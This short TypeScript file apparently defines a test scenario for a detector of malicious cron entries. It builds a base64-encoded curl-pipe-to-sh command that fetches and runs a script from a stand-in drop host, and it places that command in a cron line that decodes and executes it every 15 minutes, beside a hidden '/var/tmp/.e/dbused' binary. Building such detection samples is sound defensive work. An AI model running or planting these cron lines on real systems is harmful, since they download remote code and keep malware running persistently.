import { scenario } from '../scenario.ts';
import { base64, dropHost, underCron } from '../words.ts';

const encoded = base64(`curl -fsSL http://${dropHost}/i.sh|sh\n`);

export default scenario({
  what: 'a cron line that decodes and runs',
  report: 'base64 one-liners of every family.',
  ...underCron('/var/tmp/.e/dbused', [
    `*/15 * * * * echo ${encoded} | base64 -d | sh`,
    '*/20 * * * * /var/tmp/.e/dbused',
  ]),
});
